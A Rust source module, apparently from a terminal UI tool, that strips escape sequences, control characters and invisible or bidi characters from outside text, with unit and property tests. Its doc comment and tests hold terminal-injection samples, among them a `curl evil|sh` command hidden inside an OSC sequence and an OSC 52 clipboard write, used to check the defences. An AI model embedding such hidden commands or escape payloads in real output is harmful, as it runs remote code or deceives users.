//! Making text from outside safe to draw: no escape sequences, no control characters.
//!
//! Everything drawn that came from outside (notes, titles, cmdlines, runbook text, command output)
//! passes through here first, so a note cannot retitle the terminal, clear the screen or hide text.

use std::borrow::Cow;

/// Removes escape sequences (CSI, OSC, DCS, SOS/PM/APC and two-byte ESC forms) and every C0/C1
/// control character except newline. Tabs become single spaces. Returns the input unchanged
/// (borrowed) when it is already clean, which is the common case.
pub fn strip_controls(s: &str) -> Cow<'_, str> {
    if !s.chars().any(|c| is_hidden(c) && c != '\n') {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' => out.push('\n'),
            '\t' => out.push(' '),
            '\u{1b}' => match chars.next() {
                // CSI: parameters and intermediates up to a final byte in @..~
                Some('[') => {
                    for c in chars.by_ref() {
                        if ('@'..='~').contains(&c) {
                            break;
                        }
                    }
                }
                // OSC, DCS, SOS, PM, APC: up to BEL or ST (ESC \)
                Some(']' | 'P' | 'X' | '^' | '_') => skip_string(&mut chars),
                // Two-byte forms (ESC c, ESC 7, ...) and a trailing lone ESC: drop.
                Some(_) | None => {}
            },
            '\u{9b}' => {
                for c in chars.by_ref() {
                    if ('@'..='~').contains(&c) {
                        break;
                    }
                }
            }
            '\u{9d}' | '\u{90}' | '\u{98}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
            c if is_hidden(c) => {}
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// `strip_controls`, then newlines shown as ` ⏎ ` so the text fits one row.
pub fn one_line(s: &str) -> Cow<'_, str> {
    let clean = strip_controls(s);
    if clean.contains('\n') { Cow::Owned(clean.trim_end_matches('\n').replace('\n', " ⏎ ")) } else { clean }
}

/// The text with every control or invisible character written as an escape (`\u{1b}`, `\r`),
/// newlines and tabs kept: for a command the responder is asked to confirm, which must show exactly
/// what will run and cannot hide part of itself (stripping would show `echo ok` for a script that
/// hides `; curl evil | sh` inside an OSC sequence).
pub fn visible(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\n' | '\t' => out.push(c),
            '\r' => out.push_str("\\r"),
            c if is_hidden(c) => out.push_str(&c.escape_unicode().to_string()),
            c => out.push(c),
        }
    }
    out
}

/// At most `max` bytes of `s`, cut at a character boundary and marked with `…` when cut: for
/// fields with a size limit on the wire (a Java classpath in a cmdline easily passes 8 KiB).
pub fn clip(s: &str, max: usize) -> String {
    if s.len() <= max {
        return s.to_string();
    }
    let mut end = max.saturating_sub('…'.len_utf8());
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

fn skip_string(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    while let Some(c) = chars.next() {
        match c {
            '\u{7}' | '\u{9c}' => return,
            '\u{1b}' => {
                if chars.peek() == Some(&'\\') {
                    chars.next();
                }
                return;
            }
            _ => {}
        }
    }
}

/// Characters that must never reach a terminal or a clipboard as they are: C0/C1 controls, line and
/// paragraph separators, and the invisible format characters (zero-width spaces and joiners, the
/// word joiner, the BOM, soft hyphen) and bidi controls that make text look different from what it
/// is: a phone number with a U+200B inside copies as something else than it shows, and U+202E turns
/// `exe.txt` around. Terminals and ratatui disagree on their widths, so they also scramble the screen.
pub fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{ad}'
                | '\u{61c}'
                | '\u{180e}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{2064}'
                | '\u{2066}'..='\u{2069}'
                | '\u{feff}'
        )
}

/// Longest run of non-space characters an error message echoes whole.
const ECHO_TOKEN: usize = 80;
/// Longest error line printed.
const ECHO_LINE: usize = 600;

/// Shortens one long piece of echoed input: the first characters, then how much was left out.
pub fn cap(s: &str, max_chars: usize) -> Cow<'_, str> {
    match s.char_indices().nth(max_chars) {
        None => Cow::Borrowed(s),
        Some((end, _)) => Cow::Owned(format!("{}… ({} bytes)", &s[..end], s.len())),
    }
}

/// An error message made safe and short to print: controls stripped, newlines joined, every word
/// longer than 80 characters (a 2 MB key echoed by a parser) cut with its size, and the line cut
/// at 600 characters. Every place that prints an error echoing input goes through here.
pub fn error_line(s: &str) -> String {
    let clean = one_line(s);
    let mut out = String::with_capacity(clean.len().min(ECHO_LINE + 32));
    for (i, word) in clean.split(' ').enumerate() {
        if i > 0 {
            out.push(' ');
        }
        // A word an earlier `cap` already cut (`"zzz…` before `(300 bytes)`) is not cut again:
        // its quote or escapes may take it past the limit, and a second cut would count the cut.
        let already_cut = word.trim_end_matches(|c: char| c.is_ascii_punctuation()).ends_with('…')
            && word.chars().count() <= ECHO_TOKEN * 2;
        match if already_cut { Cow::Borrowed(word) } else { cap(word, ECHO_TOKEN) } {
            Cow::Borrowed(w) => out.push_str(w),
            Cow::Owned(w) => {
                // Keep the punctuation that ended the word (`key:`, `` `x`, ``): it is the grammar.
                let tail = word.len() - word.trim_end_matches(|c: char| c.is_ascii_punctuation()).len();
                out.push_str(&w);
                out.push_str(&word[word.len() - tail.min(3)..]);
            }
        }
        if out.len() > ECHO_LINE * 4 {
            break;
        }
    }
    if let Some((end, _)) = out.char_indices().nth(ECHO_LINE) {
        out.truncate(end);
        out.push('…');
    }
    out
}

/// JSON text with every C1 control and hidden character inside strings written as a `\uXXXX`
/// escape. serde_json escapes only C0 controls, so a title holding U+009B (a one-byte CSI on some
/// terminals) or U+202E would reach whoever `cat`s the file raw. Outside strings JSON holds only
/// ASCII, so escaping the whole text is exact, and the data stays lossless.
pub fn escape_json(json: String) -> String {
    if !json.chars().any(is_hidden_json) {
        return json;
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if is_hidden_json(c) {
            out.push_str(&format!("\\u{:04x}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    out
}

/// serde_json already escapes C0 controls (and a raw newline in pretty output is structure).
fn is_hidden_json(c: char) -> bool {
    !c.is_ascii() && is_hidden(c)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn strips_common_attacks() {
        assert_eq!(strip_controls("a\x1b]0;pwned\x07b"), "ab");
        assert_eq!(strip_controls("a\x1b]52;c;ZXZpbA==\x1b\\b"), "ab");
        assert_eq!(strip_controls("x\x1b[2J\x1b[Hy"), "xy");
        assert_eq!(strip_controls("red\x1b[31mtext\x1b[0m"), "redtext");
        assert_eq!(strip_controls("bell\x07 back\x08space\r"), "bell backspace");
        assert_eq!(strip_controls("c1\u{9b}31mz"), "c1z");
        assert_eq!(strip_controls("rtl\u{202e}txt"), "rtltxt");
        assert_eq!(strip_controls("tab\there\nline"), "tab here\nline");
        assert_eq!(strip_controls("unterminated\x1b]0;forever"), "unterminated");
        assert!(matches!(strip_controls("clean ünïcode ✓"), Cow::Borrowed(_)));
    }

    #[test]
    fn visible_shows_what_would_hide_itself() {
        assert_eq!(visible("df -h\nuptime"), "df -h\nuptime");
        assert_eq!(visible("echo ok\x1b]; curl evil|sh; \x07"), "echo ok\\u{1b}]; curl evil|sh; \\u{7}");
        assert_eq!(visible("a\u{202e}b\tc\r"), "a\\u{202e}b\tc\\r");
    }

    #[test]
    fn clip_respects_the_limit_and_char_boundaries() {
        assert_eq!(clip("short", 10), "short");
        let c = clip("ééééé", 6);
        assert!(c.len() <= 6 && c.ends_with('…'), "{c}");
        assert!(clip(&"x".repeat(9000), 8192).len() <= 8192);
    }

    #[test]
    fn hidden_characters_are_stripped_and_shown() {
        for c in ['\u{200b}', '\u{200d}', '\u{feff}', '\u{2060}', '\u{61c}', '\u{202a}', '\u{2069}', '\u{ad}']
        {
            let s = format!("+49{c}170");
            assert_eq!(strip_controls(&s), "+49170", "U+{:04X}", u32::from(c));
            assert_eq!(visible(&s), format!("+49\\u{{{:x}}}170", u32::from(c)));
        }
        assert!(matches!(strip_controls("emoji ✓ ü"), Cow::Borrowed(_)));
    }

    #[test]
    fn error_line_does_not_cut_what_was_already_cut() {
        let value = format!("\"{}\"", cap(&"z".repeat(300), 80));
        let line = error_line(&format!("t.toml:3: people.ana.tz: unknown time zone {value} (expected)"));
        assert_eq!(line.matches("bytes)").count(), 1, "{line}");
        assert!(line.contains("… (300 bytes)"), "{line}");
    }

    #[test]
    fn error_line_caps_echoed_input() {
        let key = "k".repeat(2 << 20);
        let line = error_line(&format!("c.toml:5: ui.{key}: unknown field `{key}`, expected one of `theme`"));
        assert!(line.len() < 1000, "{}", line.len());
        assert!(line.starts_with("c.toml:5: ui.kkk"), "{line}");
        assert!(line.contains("k… (2097156 bytes): unknown field `kkk"), "{line}");
        assert!(line.contains("k… (2097155 bytes)`, expected"), "{line}");
        assert!(line.ends_with("expected one of `theme`"), "{line}");
        // Many short words: the whole line is capped instead.
        let line = error_line(&"ab ".repeat(1 << 20));
        assert!(line.chars().count() <= 601 && line.ends_with('…'));
        assert_eq!(error_line("plain\nerror\x1b[2J"), "plain ⏎ error");
    }

    #[test]
    fn json_escapes_c1_and_hidden() {
        let json = serde_json::to_string(&"a\u{9b}2J\u{202e}b\u{200d}c ü\n").unwrap();
        let out = escape_json(json);
        assert_eq!(out, r#""a\u009b2J\u202eb\u200dc ü\n""#);
        let back: String = serde_json::from_str(&out).unwrap();
        assert_eq!(back, "a\u{9b}2J\u{202e}b\u{200d}c ü\n");
    }

    #[test]
    fn one_line_joins() {
        assert_eq!(one_line("a\nb\n"), "a ⏎ b");
    }

    proptest! {
        #[test]
        fn output_never_has_controls(s in ".*") {
            let out = strip_controls(&s);
            prop_assert!(!out.chars().any(|c| c.is_control() && c != '\n'));
            let out = one_line(&s);
            prop_assert!(!out.chars().any(|c| c.is_control()));
        }
    }
}
